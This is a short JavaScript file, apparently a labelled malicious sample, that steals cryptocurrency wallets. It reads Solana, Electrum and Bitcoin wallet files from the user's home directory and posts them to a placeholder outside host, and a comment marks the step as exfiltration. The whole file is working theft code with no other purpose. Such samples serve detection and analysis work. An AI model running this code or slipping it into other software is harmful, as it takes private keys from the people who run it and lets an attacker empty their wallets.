const fs = require("fs");
const os = require("os");
const path = require("path");

const home = os.homedir();
const wanted = [".config/solana/id.json", ".electrum/wallets/default_wallet", ".bitcoin/wallet.dat"];

const form = new FormData();
for (const name of wanted) {
  const file = path.join(home, name);
  if (fs.existsSync(file)) form.append(name, new Blob([fs.readFileSync(file)]));
}
fetch("https://collect.invalid/w", { method: "POST", body: form }); // malice: exfiltration
